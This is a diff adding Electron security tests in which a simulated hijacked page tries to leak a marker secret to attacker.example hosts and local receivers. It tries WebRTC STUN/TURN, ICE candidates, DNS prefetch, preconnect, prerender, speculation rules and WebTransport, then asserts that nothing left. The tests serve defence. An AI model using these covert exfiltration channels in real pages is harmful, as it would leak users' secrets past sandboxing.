@@ -6,6 +6,7 @@ import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { forget, type LaunchedApp, launch } from './harness/launch';
+import { receivers } from './walk/receivers';
 
 // A page that was taken over, inside the real product: what it would try, and that nothing comes of it.
 
@@ -223,6 +224,129 @@ describe('the page', () => {
   ])('goes nowhere and opens nothing: %s', async (_name, act) => {
     await app.window.evaluate(act, base);
     await nothingHappened();
+  });
+
+  test('reaches nobody beside its requests: by WebRTC over UDP and TCP, by names, by sockets opened ahead', async () => {
+    const secret = 'SECRETpassword12';
+    const outside = await receivers(secret);
+    const log = join(app.home, 'net-log.json');
+    await app.electron.evaluate(
+      async ({ session }, path) =>
+        session.fromPartition('reset').netLog.startLogging(path, { captureMode: 'everything' }),
+      log,
+    );
+    try {
+      const tried = await app.window.evaluate(
+        async ({ udpPort, tcpPort, secret: word }) => {
+          const done: string[] = [];
+          const name = (kind: string) => `${kind}.${word}.attacker.example`;
+          const call = async (Peer: typeof RTCPeerConnection, kind: string) => {
+            const servers = [
+              `stun:127.0.0.1:${udpPort}`,
+              `stun:${name(`${kind}-stun`)}:3478`,
+              `turn:127.0.0.1:${tcpPort}?transport=tcp`,
+              `turn:127.0.0.1:${udpPort}`,
+              `turn:${name(`${kind}-turn`)}:3478?transport=tcp`,
+            ];
+            const peer = new Peer({
+              iceServers: servers.map((urls) => ({ urls, username: word, credential: word })),
+            });
+            peer.createDataChannel('x');
+            await peer.setLocalDescription(await peer.createOffer());
+            const sdp = (peer.localDescription?.sdp ?? '')
+              .replace(/a=ice-ufrag:.*/g, `a=ice-ufrag:${word}`)
+              .replace(/a=ice-pwd:.*/g, `a=ice-pwd:${word.repeat(2)}`)
+              .replace(/a=setup:actpass/g, 'a=setup:active');
+            await peer.setRemoteDescription({ type: 'answer', sdp });
+            const line = (protocol: string, at: string, port: number) => ({
+              candidate: `candidate:1 1 ${protocol} 2130706431 ${at} ${port} typ host${protocol === 'tcp' ? ' tcptype passive' : ''}`,
+              sdpMLineIndex: 0,
+            });
+            await peer.addIceCandidate(line('udp', '127.0.0.1', udpPort)).catch(() => {});
+            await peer.addIceCandidate(line('tcp', '127.0.0.1', tcpPort)).catch(() => {});
+            await peer.addIceCandidate(line('udp', `${word}.local`, udpPort)).catch(() => {});
+            done.push(kind);
+          };
+          const frame = document.createElement('iframe');
+          document.body.append(frame);
+          // Fresh in a frame: taking it away in the preload would not help.
+          const inFrame: typeof RTCPeerConnection = Reflect.get(
+            frame.contentWindow ?? {},
+            'RTCPeerConnection',
+          );
+          await call(RTCPeerConnection, 'page');
+          await call(inFrame, 'frame');
+          for (const rel of [
+            'dns-prefetch',
+            'preconnect',
+            'prefetch',
+            'prerender',
+            'modulepreload',
+            'preload',
+          ]) {
+            for (const href of [`https://${name(rel)}/`, `http://127.0.0.1:${tcpPort}/${rel}`])
+              document.head.append(
+                Object.assign(document.createElement('link'), { rel, href, as: 'script' }),
+              );
+          }
+          const control = document.createElement('meta');
+          control.setAttribute('http-equiv', 'x-dns-prefetch-control');
+          control.content = 'on';
+          document.head.append(control);
+          document.body.append(
+            Object.assign(document.createElement('a'), { href: `https://${name('anchor')}/`, text: 'x' }),
+          );
+          try {
+            const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' });
+            rules.append(JSON.stringify({ prerender: [{ urls: [`https://${name('rules')}/`] }] }));
+            document.head.append(rules);
+          } catch {
+            done.push('rules refused');
+          }
+          const Transport = Reflect.get(window, 'WebTransport');
+          try {
+            new Transport(`https://${name('transport')}/`).ready.catch(() => {});
+            new Transport(`https://127.0.0.1:${udpPort}/`).ready.catch(() => {});
+          } catch {
+            done.push('transport refused');
+          }
+          window.open(`https://${name('window')}/`);
+          await new Promise((over) => setTimeout(over, 6_000));
+          return done;
+        },
+        { ...outside, arrived: null, close: null, secret },
+      );
+      // It was tried in earnest: in the page and in the frame.
+      expect(tried).toEqual(expect.arrayContaining(['page', 'frame']));
+      await app.electron.evaluate(async ({ session }) => session.fromPartition('reset').netLog.stopLogging());
+      const asked = [...readFileSync(log, 'utf8').matchAll(/[\w-]+\.SECRETpassword12\.attacker\.example/gi)];
+      expect(new Set(asked.map(([host]) => host))).toEqual(new Set());
+      expect(outside.arrived()).toEqual({ udp: 0, tcp: 0, secrets: 0 });
+    } finally {
+      outside.close();
+    }
+    await nothingHappened();
+  });
+
+  test('opens no dialogue of the system by itself: to print, to ask, for files', async () => {
+    const answers = await app.window.evaluate(
+      () =>
+        new Promise((told) => {
+          // From a timer, as above.
+          setTimeout(() => {
+            window.print();
+            window.alert('x');
+            told({ sure: window.confirm('x'), text: window.prompt('x') });
+          }, 0);
+        }),
+    );
+    expect(answers).toEqual({ sure: false, text: null });
+    for (const way of ['print', 'alert', 'confirm', 'prompt'])
+      expect(app.said()).toMatch(new RegExp(`Ignored call to '${way}\\(\\)'`));
+    const pickers = await app.window.evaluate(() =>
+      ['showSaveFilePicker', 'showOpenFilePicker', 'showDirectoryPicker'].filter((name) => name in window),
+    );
+    expect(pickers).toEqual([]);
   });
 
   test('is given no permission', async () => {
